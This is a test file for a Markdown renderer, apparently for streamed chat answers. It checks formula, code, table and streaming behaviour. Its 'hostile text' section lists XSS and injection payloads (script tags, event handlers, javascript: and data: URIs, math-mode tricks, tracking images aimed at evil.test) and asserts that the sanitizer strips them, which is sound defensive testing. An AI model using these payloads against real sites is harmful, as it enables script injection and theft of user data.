import { describe, expect, it } from "vitest";
import { highlight } from "./highlight";
import { formula } from "./katex";
import { Markdown, type Words } from "./markdown";

const words: Words = { copy: "Copy", image: "Image", code: "code", table: "Table" };
const markdown = new Markdown({ formula, highlight });

function html(text: string): string {
  return markdown.blocks(text, words).join("");
}

function dom(text: string): HTMLElement {
  const node = document.createElement("div");
  node.innerHTML = html(text);
  return node;
}

const payloads = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<img src="https://evil.test/p.png">',
  "![x](https://evil.test/p.png?q=secret)",
  "![x](//evil.test/p.png)",
  "![x](pixel.png)",
  "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
  "![x](data:image/png;base64,AAAA)",
  "![x][ref]\n\n[ref]: https://evil.test/p.png",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#x0a;script:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](file:///etc/passwd)",
  "[x](/v1/models)",
  "[x](?q)",
  "<javascript:alert(1)>",
  "[x]\n\n[x]: javascript:alert(1)",
  '[x](https://a.test "\\" onclick=alert(1) x=\\"")',
  '[x](https://a.test/"onmouseover="alert(1))',
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<style>body{display:none}</style>",
  '<p style="position:fixed;inset:0">x</p>',
  '<form action="https://evil.test"><input name=q><button formaction=javascript:alert(1)>go</button></form>',
  '<iframe src="https://evil.test"></iframe>',
  '<object data="https://evil.test"></object><embed src=x>',
  '<meta http-equiv=refresh content="0;url=https://evil.test"><base href="https://evil.test">',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<a href="javascript:alert(1)">x</a>',
  '<video src=x onerror=alert(1)></video><audio src=x></audio>',
  "<details open ontoggle=alert(1)>x</details>",
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
  '```"><img src=x onerror=alert(1)>\nx\n```',
  "`<img src=x onerror=alert(1)>`",
  "| <img src=x onerror=alert(1)> | b |\n|---|:-:|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
  "\\(\\href{javascript:alert(1)}{x}\\)",
  "$$\\url{javascript:alert(1)}$$",
  "$$\\includegraphics{https://evil.test/x.png}$$",
  "$$\\htmlStyle{background:url(https://evil.test)}{x}$$",
  "$$\\htmlId{input}{x} \\htmlClass{y}{z} \\htmlData{i=1}{x}$$",
  "\\(\\text{<img src=x onerror=alert(1)>}\\)",
  "$$\\text{</math><script>alert(1)</script>}$$",
  "$$\\def\\a{\\a\\a}\\a$$",
];

describe("hostile text", () => {
  const allowed = /^(?:https?:\/\/|mailto:)/;

  it.each(payloads)("%s", (payload) => {
    for (const text of [payload, `> ${payload}`, `- ${payload}`, `**${payload}**`, `# ${payload}`]) {
      const node = dom(text);
      expect(node.querySelector("script,img,svg,style,form,input,iframe,object,embed,meta,base,link,video,audio,details,noscript,template")).toBeNull();
      for (const element of node.querySelectorAll("*")) {
        for (const { name, value } of element.attributes) {
          expect(name).not.toMatch(/^on|^style$|^src|^id$|^name$|action|xlink|^srcdoc$|^data-/);
          if (name === "href") expect(value).toMatch(allowed);
        }
        if (element.tagName === "A" && element.hasAttribute("href")) {
          expect(element.getAttribute("rel")).toBe("noopener noreferrer nofollow");
          expect(element.getAttribute("target")).toBe("_blank");
        }
        if (element.tagName === "BUTTON") expect(element.className).toBe("code-copy");
      }
    }
  });

  it("shows raw HTML as text", () => {
    expect(dom("a <b>bold</b> word").textContent).toContain("<b>bold</b>");
  });
});

describe("images", () => {
  it("become links that say what they are", () => {
    const link = dom("![A cat](https://example.org/cat.png)").querySelector("a")!;
    expect(link.textContent).toBe("Image: A cat");
    expect(link.getAttribute("href")).toBe("https://example.org/cat.png");
    expect(dom("![](https://example.org/cat.png)").textContent).toContain("Image: https://example.org/cat.png");
  });
});

describe("formulas", () => {
  it("are drawn between their marks, as MathML without styles", () => {
    for (const text of ["so \\(x^2\\) is", "\\[x^2\\]", "$$x^2$$", "$$\nx^2\n$$", "\\[\nx^2\n\\]", "so $$x^2$$ is", "- \\[x^2\\]"]) {
      const math = dom(text).querySelector("math")!;
      expect(math?.querySelector("msup"), text).not.toBeNull();
      expect(dom(text).querySelector("[style]")).toBeNull();
      expect(dom(text).textContent).not.toContain("x^2");
    }
    expect(dom("$$x^2$$").querySelector("math")!.getAttribute("display")).toBe("block");
  });

  it("leave prices and code alone", () => {
    for (const text of [
      "It costs $5 or $8.",
      "Between $5 … $8 and $10",
      "$x$ stays",
      "`\\(x\\)` and `$$x$$`",
      "```\n$$x$$\n```",
      "a \\\\(x\\\\) b",
      "$$",
      "$$ $$",
      "an open \\(x",
      "an open $$x",
    ]) {
      expect(dom(text).querySelector("math"), text).toBeNull();
    }
    expect(dom("It costs $5 or $8.").textContent!.trim()).toBe("It costs $5 or $8.");
    expect(dom("Between $5 … $8").textContent!.trim()).toBe("Between $5 … $8");
  });

  it("hold lines that Markdown would take for something else", () => {
    const node = dom("$$\n- a\n+ b\n= c_1 * d_2 * e\n$$");
    expect(node.querySelector("math")).not.toBeNull();
    expect(node.querySelector("ul,em")).toBeNull();
  });

  it("show their source when they are faulty", () => {
    expect(dom("\\(\\frac{1}\\)").querySelector("code.tex")!.textContent).toBe("\\frac{1}");
  });

  it("show their source until they can be drawn", () => {
    const needed: string[] = [];
    const early = new Markdown({}, (what) => needed.push(what));
    expect(early.blocks("\\(x\\)", words).join("")).toContain('<code class="tex">x</code>');
    expect(needed).toEqual(["formula"]);
  });

  it.each(["\\(", "\\[\n", "$$ ", "\\(x\\) "])("take no quadratic time: %j", (piece) => {
    const time = (characters: number) => {
      const text = piece.repeat(characters / piece.length);
      const began = performance.now();
      new Markdown({}).blocks(text, words);
      return performance.now() - began;
    };
    time(10_000);
    const short = Math.max(time(20_000), 20);
    expect(time(80_000)).toBeLessThan(short * 10);
  }, 30_000);
});

describe("code", () => {
  it("is colored by class, with a button to copy it", () => {
    const node = dom("```python\nprint('x')\n```");
    expect(node.querySelector(".hljs-string")!.textContent).toBe("'x'");
    expect(node.querySelector("pre")!.textContent).toBe("print('x')\n");
    expect(node.querySelector("button")!.textContent).toBe("Copy");
  });

  it("of unknown languages stays plain", () => {
    expect(dom("```klingon\n<Qapla'>\n```").querySelector("code")!.innerHTML).toBe("&lt;Qapla'&gt;\n");
  });

  it("is not colored while it grows", () => {
    const text = "```python\nprint('x')";
    expect(markdown.blocks(text, words, true).join("")).not.toContain("hljs");
    expect(markdown.blocks(text, words, false).join("")).toContain("hljs");
  });
});

describe("tables", () => {
  it("align by class, for styles are forbidden", () => {
    const cells = dom("| a | b | c |\n|:--|--:|:-:|\n| 1 | 2 | 3 |").querySelectorAll("td");
    expect([...cells].map((c) => c.className)).toEqual(["left", "right", "center"]);
  });
});

describe("a growing answer", () => {
  it("keeps its finished blocks", () => {
    const text = "# One\n\nTwo *three*\n\n- four\n- five\n\n```go\nsix()\n```\n\nseven";
    let before: string[] = [];
    for (let n = 1; n <= text.length; n++) {
      const blocks = markdown.blocks(text.slice(0, n), words, true);
      // What is followed by two more blocks never changes again.
      expect(blocks.slice(0, Math.max(0, before.length - 2))).toEqual(before.slice(0, Math.max(0, before.length - 2)));
      before = blocks;
    }
    expect(before.length).toBe(5);
    expect(markdown.blocks(text, words)).toHaveLength(5);
  });
});
